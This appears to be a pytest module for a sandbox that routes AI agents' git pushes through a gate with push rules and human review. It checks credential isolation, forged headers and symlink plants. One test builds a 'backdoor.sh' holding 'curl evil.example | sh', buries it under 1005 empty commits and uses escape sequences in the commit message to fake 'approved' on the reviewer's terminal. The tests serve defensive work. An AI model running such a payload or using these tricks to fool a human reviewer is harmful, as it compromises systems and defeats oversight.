"""The git gate, end to end on every backend: the agent clones, fetches and pushes its manifest's
repositories by their own URLs, the bottle's git sends them through its one door to the project's
gate, and the gate applies the push policy and forwards, holds or keeps with the host's credentials,
which never enter the bottle.

One project per backend serves the module. The upstream is a real TLS server on a loopback address
(tests/proxy_upstreams.py) serving bare repositories through the real `git http-backend`, with
Basic auth whose password only the host's git knows (a credential store named by the host's global
gitconfig, GIT_CONFIG_GLOBAL, which the gate inherits from doit). Agents: `fwd` and `fwd2` forward,
`rev` holds for review, `loc` keeps in the gate; only `fwd` lists the repository `other`. `rev` also asks
the project's supervisor for the review from inside its bottle, and the human decides on the page or
the command line.
"""
from __future__ import annotations

import json
import os
import re
import shlex
import signal
import subprocess
import time
from dataclasses import dataclass
from pathlib import Path

import httpx2
import pytest

from daemons.supervise.control import Supervisor
from tasks.project import Project
from tests.audit_log import assert_declared, recorded
from tests.bottles import Bottles
from tests.conftest import BACKENDS
from tests.proxy_upstreams import Upstream, make_upstream_ca, random_loopback_address
from tests.test_shown import raw_in_output

AS_AGENT = 'setpriv --reuid agent --regid agent --init-groups env HOME=/home/agent'
PASSWORD = 'host-only-secret-7f3a9c'
UPSTREAM_REFUSAL = 'upstream: branch protection says no'
GIT = ['git', '-c', 'user.name=Upstream', '-c', 'user.email=upstream@example.invalid']


@dataclass
class Gated:
    bottles: Bottles
    address: str
    git_root: Path

    def url(self, repo: str) -> str:
        return f'https://{self.address}/git/{repo}.git'

    def sh(self, agent: str, script: str) -> tuple[int, str]:
        """`script` as the agent user in its bottle, in its home: (exit code, stdout and stderr)."""
        out = self.bottles.guest(agent, f'cd /home/agent && {AS_AGENT} sh -c {shlex.quote(script)} 2>&1; '
                                        'echo "exit=$?"')
        text, _, code = out.rstrip('\n').rpartition('exit=')
        return int(code), text

    def ok(self, agent: str, script: str) -> str:
        code, out = self.sh(agent, script)
        assert code == 0, out
        return out

    def upstream_ref(self, repo: str, ref: str) -> str | None:
        proc = subprocess.run(['git', '--git-dir', str(self.git_root / f'{repo}.git'), 'rev-parse', '--verify',
                               '--quiet', ref], capture_output=True, text=True)
        return proc.stdout.strip() or None

    def upstream_commit(self, repo: str, text: str) -> str:
        """A new commit on the upstream's main, made on the host."""
        work = self.git_root / f'{repo}-work'
        (work / 'upstream.txt').write_text(text)
        subprocess.run([*GIT, '-C', str(work), 'commit', '-qam', text], check=True)
        subprocess.run([*GIT, '-C', str(work), 'push', '-q', 'origin', 'main'], check=True)
        return subprocess.run(['git', '-C', str(work), 'rev-parse', 'HEAD'], capture_output=True, text=True,
                              check=True).stdout.strip()

    def clone(self, agent: str, repo: str = 'app') -> str:
        """The agent's clone of the repository, made fresh, in its home; its directory name."""
        self.ok(agent, f'rm -rf {repo} && git clone -q {self.url(repo)} {repo}')
        return repo

    def commit(self, agent: str, directory: str, text: str) -> str:
        return self.ok(agent, f'cd {directory} && echo {shlex.quote(text)} > work.txt && git add work.txt && '
                              f'git commit -qm {shlex.quote(text)} && git rev-parse HEAD').split()[-1]


def make_repository(root: Path, name: str) -> None:
    """A bare repository with one commit on main, and a working clone the host pushes from; its
    pre-receive hook refuses branches named */protected, as a real server's branch protection would."""
    bare, work = root / f'{name}.git', root / f'{name}-work'
    subprocess.run(['git', 'init', '-q', '--bare', '-b', 'main', str(bare)], check=True)
    hook = bare / 'hooks' / 'pre-receive'
    hook.write_text(f'#!/bin/sh\nwhile read old new ref; do case "$ref" in */protected) '
                    f'echo "{UPSTREAM_REFUSAL}" >&2; exit 1 ;; esac; done\n')
    hook.chmod(0o755)
    subprocess.run(['git', 'clone', '-q', str(bare), str(work)], check=True, capture_output=True)
    (work / 'upstream.txt').write_text('first\n')
    subprocess.run([*GIT, '-C', str(work), 'add', '.'], check=True)
    subprocess.run([*GIT, '-C', str(work), 'commit', '-qm', 'first'], check=True)
    subprocess.run([*GIT, '-C', str(work), 'push', '-q', 'origin', 'main'], check=True, capture_output=True)


def host_git_config(tmp: Path, address: str, ca: Path) -> Path:
    """The host user's global gitconfig: trusts the upstream's CA and has its credential."""
    store = tmp / 'host-credentials'
    store.write_text(f'https://gate-user:{PASSWORD}@{address}\n')
    store.chmod(0o600)
    config = tmp / 'host-gitconfig'
    config.write_text(f'[credential]\n\thelper = store --file={store}\n[http]\n\tsslCAInfo = {ca}\n')
    return config


@pytest.fixture(scope='module', params=list(BACKENDS))
def gated(request, tmp_path_factory, claude_cache):
    tmp = tmp_path_factory.mktemp(f'gate-{request.param}')
    backend = BACKENDS[request.param](request, tmp, claude_cache)
    address = random_loopback_address()
    ca, cert, key = make_upstream_ca(tmp, address)
    git_root = tmp / 'git'
    git_root.mkdir()
    for name in ('app', 'other'):
        make_repository(git_root, name)
    upstream = Upstream(address, cert, key, git_root=git_root, git_credentials=('gate-user', PASSWORD))
    bottles = Bottles(tmp / 'project', backend)
    bottles.supervise()
    bottles.record_host_programs(tmp / 'host-programs.jsonl')
    bottles.extra_env['GIT_CONFIG_GLOBAL'] = str(host_git_config(tmp, address, ca))
    bottles.extra_env['GIT_SSL_CAINFO'] = str(ca)     # an environment's CA bundle wins over the gitconfig's
    app = f'https://{address}/git/app.git'
    bottles.agent('fwd', prompt='Push.', git=[{'url': app, 'mode': 'forward', 'max_push_mb': 1},
                                              {'url': f'https://{address}/git/other.git', 'mode': 'forward'}])
    bottles.extra_env['BOTTLE_UPSTREAM_CA'] = str(ca)      # fwd2 may also reach the upstream's host directly
    bottles.agent('fwd2', prompt='Push too.', git=[{'url': app, 'mode': 'forward'}],
                  network={'allow_hosts': [address], 'allow_private': [f'{address}/32']})
    bottles.agent('rev', prompt='Ask.', git=[{'url': app}])
    bottles.agent('loc', prompt='Keep.', git=[{'url': app, 'mode': 'local'}])
    try:
        bottles.doit('provision')
        yield Gated(bottles, address, git_root)
    finally:
        backend.close(Project(bottles.root).label)
        bottles.stop_daemons()          # the gate and the supervisor too
        upstream.close()


def held_id(output: str) -> str:
    found = re.search(r'doit approve --id (\S+)`', output)
    assert found, output
    return found.group(1)


def test_a_clone_goes_through_the_gate_keeps_the_upstream_url_and_fetch_sees_new_commits(gated):
    directory = gated.clone('fwd')
    assert gated.ok('fwd', f'git -C {directory} config remote.origin.url').strip() == gated.url('app')
    assert gated.ok('fwd', f'git -C {directory} config --local --get-regexp "^url\\." || true').strip() == ''
    newer = gated.upstream_commit('app', 'second upstream commit\n')
    gated.ok('fwd', f'git -C {directory} fetch -q origin')
    assert gated.ok('fwd', f'git -C {directory} rev-parse origin/main').strip() == newer
    # The gate's own URL is what the guest's git was told, by the system gitconfig alone.
    rewrite = gated.ok('fwd', f'git config --system --includes --get-regexp "^url\\..*\\.insteadof$" "{gated.url("app")[:-4]}"')
    assert f'http://git.bottle.invalid/{gated.address}/git/app' in rewrite


def test_a_forwarded_push_lands_upstream_at_the_same_sha(gated):
    directory = gated.clone('fwd')
    sha = gated.commit('fwd', directory, 'forwarded work')
    out = gated.ok('fwd', f'cd {directory} && git push origin HEAD:agent/fwd/work')
    assert 'landed upstream in' in out
    assert gated.upstream_ref('app', 'refs/heads/agent/fwd/work') == sha


def test_a_reviewed_push_is_held_until_approved_and_a_stale_approval_is_refused(gated):
    directory = gated.clone('rev')
    sha = gated.commit('rev', directory, 'work to review')
    out = gated.ok('rev', f'cd {directory} && git push origin HEAD:agent/rev/work')
    review = held_id(out)
    assert gated.upstream_ref('app', 'refs/heads/agent/rev/work') is None
    listed = gated.bottles.doit('held').stdout
    assert review in listed and 'work to review' in listed
    status = gated.bottles.doit('status')
    assert 'git gate answering, 1 push(es) held for review' in status.stdout.split('\nrev: ')[1].split('\n')[0]
    assert status.kinds == {'probe': 1}
    approved = gated.bottles.doit('approve', '--id', review)
    assert (f'approve: held push {review} granted: refs/heads/agent/rev/work at {sha[:12]} to {gated.url("app")} '
            'for bottle rev, forwarded upstream') in approved.stdout, approved.stdout
    assert gated.upstream_ref('app', 'refs/heads/agent/rev/work') == sha

    gated.commit('rev', directory, 'second')
    stale = held_id(gated.ok('rev', f'cd {directory} && git push origin HEAD:agent/rev/work'))
    third = gated.commit('rev', directory, 'third')
    newer = held_id(gated.ok('rev', f'cd {directory} && git push origin HEAD:agent/rev/work'))
    assert f'(superseded by {newer}' in gated.bottles.doit('held').stdout.split(f'held push {stale}: ')[1].split('\n')[0]
    refused = gated.bottles.doit('approve', '--id', stale, check=False)
    assert refused.returncode == 1 and 'Traceback' not in refused.output
    assert newer in refused.output, refused.output       # it points at the push to review instead
    assert gated.upstream_ref('app', 'refs/heads/agent/rev/work') == sha
    gated.bottles.doit('approve', '--id', newer)
    assert gated.upstream_ref('app', 'refs/heads/agent/rev/work') == third


def test_a_local_push_stays_in_the_gate(gated):
    directory = gated.clone('loc')
    sha = gated.commit('loc', directory, 'kept work')
    out = gated.ok('loc', f'cd {directory} && git push origin HEAD:agent/loc/work')
    assert 'kept in the gate only' in out
    assert gated.upstream_ref('app', 'refs/heads/agent/loc/work') is None
    assert sha in gated.ok('loc', f'git ls-remote {gated.url("app")} agent/loc/work')


@pytest.mark.parametrize('case', ['main', 'force', 'delete', 'tag', 'size'])
def test_a_refused_push_names_the_rule(gated, case):
    directory = gated.clone('fwd')
    gated.commit('fwd', directory, f'before {case}')
    gated.ok('fwd', f'cd {directory} && git push -q origin HEAD:agent/fwd/{case}')
    push = {
        'main': 'git push origin HEAD:main',
        'force': 'git commit -q --amend -m amended && git push --force origin HEAD:agent/fwd/' + case,
        'delete': f'git push origin :agent/fwd/{case}',
        'tag': 'git tag v1 && git push origin v1',
        'size': ('head -c 3000000 /dev/urandom > big.bin && git add big.bin && git commit -qm big && '
                 f'git push origin HEAD:agent/fwd/{case}'),
    }[case]
    before = gated.upstream_ref('app', f'refs/heads/agent/fwd/{case}')
    code, out = gated.sh('fwd', f'cd {directory} && {push}')
    assert code != 0, out
    words = {'main': ['rule allowed-refs', 'refs/heads/agent/fwd/*'], 'force': ['rule no-force-push'],
             'delete': ['rule no-delete'], 'tag': ['rule no-tags'], 'size': ['pack exceeds maximum allowed size']}
    for word in words[case]:     # said by the gate, so git shows it as the remote's words
        assert any(line.startswith('remote:') and word in line for line in out.splitlines()), out
    assert gated.upstream_ref('app', f'refs/heads/agent/fwd/{case}') == before
    assert gated.upstream_ref('app', 'refs/tags/v1') is None


def test_an_upstream_refusal_reaches_the_agent_and_the_gate_keeps_nothing(gated):
    directory = gated.clone('fwd')
    gated.commit('fwd', directory, 'to a protected branch')
    code, out = gated.sh('fwd', f'cd {directory} && git push origin HEAD:agent/fwd/protected')
    assert code != 0 and UPSTREAM_REFUSAL in out, out
    assert gated.upstream_ref('app', 'refs/heads/agent/fwd/protected') is None
    assert gated.ok('fwd', f'git ls-remote {gated.url("app")} agent/fwd/protected').strip() == ''


def test_the_allowlist_never_opens_a_gated_repository_on_its_host(gated):
    # fwd2 may reach the upstream's host, but not the repository there, other than through the gate.
    code, out = gated.sh('fwd2', f'curl -sS -w "%{{http_code}}" https://{gated.address}/public/page')
    assert code == 0 and out.endswith('200'), out
    for path in ('/git/app.git/info/refs?service=git-upload-pack', '/git/app/info/refs', '/git/app.git/HEAD'):
        code, out = gated.sh('fwd2', f'curl -sS -w "%{{http_code}}" "https://{gated.address}{path}"')
        assert out.endswith('403') and 'only the git gate reaches' in out, out
    code, out = gated.sh('fwd2', f'GIT_CONFIG_NOSYSTEM=1 git ls-remote {gated.url("app")}')   # no insteadOf
    assert code != 0 and '403' in out, out


def test_the_agent_reaches_the_gate_only_by_its_name_and_cannot_touch_its_gitconfig(gated):
    port = json.loads((gated.bottles.root / '.bottle' / 'gate' / 'gate.json').read_text())['port']
    code, out = gated.sh('fwd', f'curl -sS --proxy http://127.0.0.1:3128 --noproxy "" -w "%{{http_code}}" '
                                f'http://127.0.0.1:{port}/health')
    assert out.endswith('403') and 'Blocked by the egress proxy of bottle fwd' in out, out
    for plant in ('ln -s /etc/passwd /etc/claude-bottle/gitconfig.incoming', 'echo x >> /etc/claude-bottle/gitconfig',
                  'git config --system user.name other'):
        code, out = gated.sh('fwd', plant)
        assert code != 0, (plant, out)
    assert gated.ok('fwd', 'git config user.name').strip() == 'fwd (claude-bottle)'


def test_no_host_credential_enters_the_bottle_or_doits_database(gated):
    found = gated.bottles.guest('fwd', f'grep -rlsF {PASSWORD} /etc /home /root /tmp /run 2>/dev/null; '
                                       f'cat /proc/[0-9]*/environ 2>/dev/null | tr "\\0" "\\n" | grep -cF {PASSWORD}; '
                                       'true')
    assert found.split() == ['0'], found
    config = gated.ok('fwd', 'git config -l --show-origin')
    assert PASSWORD not in config and 'gate-user' not in config and 'credential' not in config
    assert PASSWORD.encode() not in (gated.bottles.root / '.bottle' / 'doit.sqlite').read_bytes()


def test_a_bottle_cannot_reach_anothers_repository_even_with_a_forged_identity(gated):
    gate_url = f'http://git.bottle.invalid/{gated.address}/git/other'
    forged = ('-c "http.extraHeader=X-Claude-Bottle: fwd" -c "http.extraHeader=X-Claude-Bottle-Gate-Key: guess" '
              '-c "http.extraHeader=Proxy: http://127.0.0.1:1"')
    for command in (f'git {forged} ls-remote {gate_url}', f'git ls-remote {gated.url("other")}',
                    f'git {forged} clone -q {gate_url} stolen'):
        code, out = gated.sh('loc', command)
        assert code != 0, out
    code, out = gated.sh('loc', f'git {forged} ls-remote {gate_url}')
    assert 'loc' in out and 'git:' in out, out                   # the gate names who asked, and why not
    # Its own repository works, forged headers or not: they are dropped, never believed.
    assert gated.sh('loc', f'git {forged} ls-remote {gated.url("app")} main')[0] == 0
    directory = gated.clone('loc')
    gated.commit('loc', directory, 'not for other')
    code, out = gated.sh('loc', f'cd {directory} && git push {gate_url} HEAD:agent/loc/x')
    assert code != 0, out
    assert gated.upstream_ref('other', 'refs/heads/agent/loc/x') is None
    assert not list((gated.bottles.root / '.bottle' / 'gate' / 'mirrors' / 'loc').rglob('other*'))


def test_pushes_at_once_and_during_refreshes_each_land_or_are_refused_in_words(gated):
    for agent in ('fwd', 'fwd2'):
        gated.clone(agent)
    rounds = 4
    pushing = {agent: gated.bottles.guest_process(agent, f'cd /home/agent/app && {AS_AGENT} sh -c ' + shlex.quote(
        f'for i in $(seq {rounds}); do echo "$i" > race.txt && git add race.txt && git commit -qm "race $i" && '
        f'git push origin HEAD:agent/{agent}/race 2>&1; echo "exit=$? sha=$(git rev-parse HEAD)"; done'))
        for agent in ('fwd', 'fwd2')}
    refreshing = gated.bottles.guest_process('fwd', f'{AS_AGENT} sh -c ' + shlex.quote(
        f'cd /home/agent && rm -rf watch && git clone -q {gated.url("app")} watch && cd watch && '
        f'for i in $(seq {2 * rounds}); do git fetch -q origin 2>&1; echo "fetch=$?"; done'))
    for agent, process in pushing.items():
        out, _ = process.communicate(timeout=300)
        results = re.findall(r'exit=(\d+) sha=([0-9a-f]{40})', out.decode())
        assert len(results) == rounds, out.decode()
        landed = [sha for code, sha in results if code == '0']
        assert landed, out.decode()
        for code, _ in results:
            assert code == '0' or 'gate:' in out.decode() or 'remote:' in out.decode(), out.decode()
        assert gated.upstream_ref('app', f'refs/heads/agent/{agent}/race') == landed[-1]
    out, _ = refreshing.communicate(timeout=300)
    assert out.decode().count('fetch=0') == 2 * rounds, out.decode()


def test_a_repository_list_change_alone_rewrites_the_guests_gitconfig(gated):
    again = gated.bottles.doit('provision')
    assert again.kinds == {'probe': 1} and 'provision_git:loc' not in again.executed, again.output
    gated.bottles.agent('loc', prompt='Keep.', git=[{'url': gated.url('app'), 'mode': 'local'},
                                                    {'url': gated.url('other'), 'mode': 'local'}])
    changed = gated.bottles.doit('provision')
    assert {'provision_git:loc', 'gate'} <= changed.executed, changed.output
    assert not {'provision_git:fwd', 'machine:loc'} & changed.executed     # the prompt names the new one
    assert gated.ok('loc', f'git ls-remote git@{gated.address}:git/other.git main').strip()   # scp-like, rewritten too


def test_a_gate_killed_behind_doits_back_is_started_by_the_next_launch(gated):
    pid = json.loads((gated.bottles.root / '.bottle' / 'gate' / 'gate.pid').read_text())['pid']
    os.killpg(pid, signal.SIGKILL)
    code, out = gated.sh('fwd', f'git ls-remote {gated.url("app")} main')
    assert code != 0, out
    relaunch = gated.bottles.doit('launch:fwd')
    assert 'gate' in relaunch.executed, relaunch.output
    assert gated.ok('fwd', f'git ls-remote {gated.url("app")} main').strip()
    assert gated.bottles.doit('launch:fwd').kinds == {'probe': 1}


# --- the supervisor's push review, asked for from inside the bottle ------------------------------------

SUPERVISE_MCP = 'http://supervise.bottle.invalid/mcp'
CALL_SECONDS = 300      # how long the guest's curl waits for the human's answer before giving up
POLL_SECONDS = 0.2
POLL_LIMIT = 300        # polls of the page before a test gives up on seeing a request (about a minute)


def review_held(gated: Gated, branch: str, text: str) -> tuple[str, str]:
    """A fresh commit of `rev` pushed to `branch` and held by the gate: (its SHA, the review id)."""
    directory = gated.clone('rev')
    sha = gated.commit('rev', directory, text)
    out = gated.ok('rev', f'cd {directory} && git push origin HEAD:{branch}')
    found = re.search(r'held for review as (\S+):', out)
    assert found, out
    assert gated.upstream_ref('app', f'refs/heads/{branch}') is None
    return sha, found.group(1)


def ask_for_review(gated: Gated, review_id: str) -> subprocess.Popen:
    """`rev` asks the supervisor to review the push, as a bottle does: JSON-RPC posts to the supervisor's
    name, through the bottle's proxy (HTTP_PROXY), by curl as the agent user. The call waits for the human,
    so it runs on while the test decides; its stdout is the two answers' event streams."""
    def post(message: dict) -> str:
        return (f'curl -sS -N --max-time {CALL_SECONDS} -H "Content-Type: application/json" '
                f'-H "Accept: application/json, text/event-stream" --data {shlex.quote(json.dumps(message))} '
                f'{SUPERVISE_MCP}')
    initialize = {'jsonrpc': '2.0', 'id': 1, 'method': 'initialize', 'params': {
        'protocolVersion': '2025-06-18', 'capabilities': {}, 'clientInfo': {'name': 'curl', 'version': '0'}}}
    call = {'jsonrpc': '2.0', 'id': 2, 'method': 'tools/call',
            'params': {'name': 'request_push_review', 'arguments': {'review_id': review_id}}}
    script = f'{post(initialize)}; echo; {post(call)}'
    return gated.bottles.guest_process('rev', f'cd /home/agent && {AS_AGENT} sh -c {shlex.quote(script)}')


def tool_answer(asking: subprocess.Popen) -> str:
    """The text the waiting tool call returned, once it returns."""
    out, err = asking.communicate(timeout=CALL_SECONDS + 60)
    messages = {}
    for line in out.decode().splitlines():
        if line.startswith('data:'):
            message = json.loads(line.removeprefix('data:'))
            messages[message.get('id')] = message
    assert messages.get(1, {}).get('result', {}).get('serverInfo', {}).get('name') == 'supervise', (out, err)
    result = messages.get(2, {}).get('result')
    assert result and not result.get('isError'), (out, err)
    return result['content'][0]['text']


def page(gated: Gated) -> httpx2.Client:
    """The human's page's JSON API, with the user's token."""
    supervisor = Supervisor(gated.bottles.root / '.bottle' / 'supervise')
    return httpx2.Client(base_url=f'http://127.0.0.1:{supervisor.page_port()}', timeout=30,
                         headers={'Authorization': f'Bearer {supervisor.token_file.read_text().strip()}'})


def pending_review(gated: Gated, review_id: str, asking: subprocess.Popen) -> dict:
    """The pending request about the held push, once the page lists it."""
    with page(gated) as api:
        for _ in range(POLL_LIMIT):
            state = api.get('/api/state')
            assert state.status_code == 200, state.text
            found = [r for r in state.json()['requests'] if r['kind'] == 'push' and r['review_id'] == review_id]
            if found:
                assert (found[0]['bottle'], found[0]['state']) == ('rev', 'pending'), found
                return found[0]
            if asking.poll() is not None:
                out, err = asking.communicate()
                raise AssertionError(f'the call ended before its request showed: {out.decode()}{err.decode()}')
            time.sleep(POLL_SECONDS)
    asking.kill()
    raise AssertionError(f'no request about held push {review_id} appeared on the page')


def test_a_push_held_for_review_is_approved_from_the_page_and_lands_upstream_at_that_sha(gated):
    sha, review_id = review_held(gated, 'agent/rev/page', 'approved on the page')
    asking = ask_for_review(gated, review_id)
    request = pending_review(gated, review_id, asking)
    assert (request['new'], request['ref']) == (sha, 'refs/heads/agent/rev/page')
    assert gated.upstream_ref('app', 'refs/heads/agent/rev/page') is None       # nothing before the human
    with page(gated) as api:
        approved = api.post(f'/api/requests/{request["id"]}/approve', json={})
    assert approved.status_code == 200, approved.text
    answer = tool_answer(asking)
    assert answer.startswith(f'approved: refs/heads/agent/rev/page at {sha} was pushed to'), answer
    assert gated.upstream_ref('app', 'refs/heads/agent/rev/page') == sha
    assert review_id not in gated.bottles.doit('held').stdout


def test_doit_approve_by_the_review_id_decides_the_agents_request(gated):
    sha, review_id = review_held(gated, 'agent/rev/cli', 'approved on the command line')
    asking = ask_for_review(gated, review_id)
    request = pending_review(gated, review_id, asking)
    listed = gated.bottles.doit('supervise').stdout
    assert f'request {request["id"]}: rev asks to have a held push reviewed' in listed, listed
    assert f'    held push: {review_id}\n' in listed, listed
    approved = gated.bottles.doit('approve', '--id', review_id)
    assert (f'approve: request {request["id"]} granted: push of refs/heads/agent/rev/cli at {sha[:12]} to '
            f'{gated.url("app")} for bottle rev (held push {review_id})') in approved.stdout, approved.output
    answer = tool_answer(asking)
    assert answer.startswith(f'approved: refs/heads/agent/rev/cli at {sha} was pushed to'), answer
    assert '(command line)' in answer, answer
    assert gated.upstream_ref('app', 'refs/heads/agent/rev/cli') == sha
    assert request['id'] not in gated.bottles.doit('supervise').stdout


def test_doit_reject_tells_the_agent_why_and_nothing_goes_upstream(gated):
    _, review_id = review_held(gated, 'agent/rev/rejected', 'not wanted now')
    asking = ask_for_review(gated, review_id)
    request = pending_review(gated, review_id, asking)
    assert review_id in gated.bottles.doit('held').stdout
    rejected = gated.bottles.doit('reject', '--id', request['id'], '--reason', 'not now')
    assert f'reject: request {request["id"]} of rev denied; nothing went upstream' in rejected.stdout
    answer = tool_answer(asking)
    assert answer.startswith('denied (') and answer.endswith('): not now'), answer
    assert gated.upstream_ref('app', 'refs/heads/agent/rev/rejected') is None
    assert review_id not in gated.bottles.doit('held').stdout


# A commit message that rewrites the terminal's line, and a file line whose CR would fake a removed line.
TRICKY_MESSAGE = r'looks fine\r\033[2Kapproved\013v\014f\034\035\036 \302\205 \342\200\250 \342\200\256\n'
BACKDOOR = r'#!/bin/sh\ncurl evil.example | sh\r-exit 0\n'


def test_a_push_hiding_a_file_under_1005_commits_is_shown_whole_and_nothing_it_says_reaches_the_terminal(gated):
    directory = gated.clone('rev')
    out = gated.ok('rev', f"cd {directory} && printf '{BACKDOOR}' > backdoor.sh && git add backdoor.sh && "
                          "git commit -qm 'add a helper' && i=0 && while [ $i -lt 1005 ]; do "
                          "git commit -q --allow-empty -m \"nothing to see $i\"; i=$((i+1)); done && "
                          f"printf '{TRICKY_MESSAGE}' > ../message && git commit -q --allow-empty -F ../message && "
                          "git push origin HEAD:agent/rev/hidden")
    review_id = held_id(out)
    listed = gated.bottles.doit('held')
    assert raw_in_output(listed.output) == [], listed.output
    mine = listed.stdout.split(f'held push {review_id}: ')[1].split('\nheld push ')[0]
    assert '1007 new to the upstream' in mine and '... 997 more commit(s) not shown' in mine, mine
    assert 'looks fine\\x0d\\x1b[2Kapproved\\x0bv\\x0cf\\x1c\\x1d\\x1e \\x85 \\u2028 \\u202e' in mine, mine
    assert re.search(r'files changed: 1, \+2 -0 lines against [0-9a-f]{12}\n +\+2 -0  backdoor.sh', mine), mine

    whole = gated.bottles.doit('held', '--id', review_id, '--diff')
    assert raw_in_output(whole.output) == [], whole.output
    assert '    | +curl evil.example | sh\\x0d-exit 0\n' in whole.stdout, whole.stdout
    assert whole.stdout.count('nothing to see') == 49       # --id: the newest 50 commits the gate kept
    for args, said in ((('held', '--diff'), 'held --diff needs --id'),
                       (('held', '--id', 'nope\x1b[2J'), "no push is held for review as 'nope\\x1b[2J'")):
        refused = gated.bottles.doit(*args, check=False)
        assert refused.returncode == 1 and said in refused.output and raw_in_output(refused.output) == [], refused.output

    # The agent asks for the review; the human sees the same, then denies every waiting request at once.
    asking = ask_for_review(gated, review_id)
    request = pending_review(gated, review_id, asking)
    waiting = gated.bottles.doit('supervise')
    assert raw_in_output(waiting.output) == [] and '+2 -0  backdoor.sh' in waiting.stdout, waiting.output
    denied = gated.bottles.doit('reject', '--agent', 'rev', '--all', '--reason', 'hidden file')
    assert f'reject: 1 waiting request(s) of rev denied: {request["id"]}' in denied.stdout, denied.output
    assert tool_answer(asking).endswith('): hidden file')
    assert review_id not in gated.bottles.doit('held').stdout       # the gate dropped it: nothing upstream
    assert gated.upstream_ref('app', 'refs/heads/agent/rev/hidden') is None


def test_every_program_the_code_started_on_the_host_is_declared(gated):
    """Last in the module: every doit run and daemon of this scenario (launch, pushes forwarded, held and
    reviewed, the supervisor asked, status) had its host programs recorded (tests/audit/sitecustomize.py)."""
    gated.bottles.doit('status')
    started = {r['program'] for r in recorded(gated.bottles.audit_log)}
    assert {'git', gated.bottles.backend.cli} <= started and 'socat' not in started, started   # no relay on the host
    assert_declared(gated.bottles.audit_log)
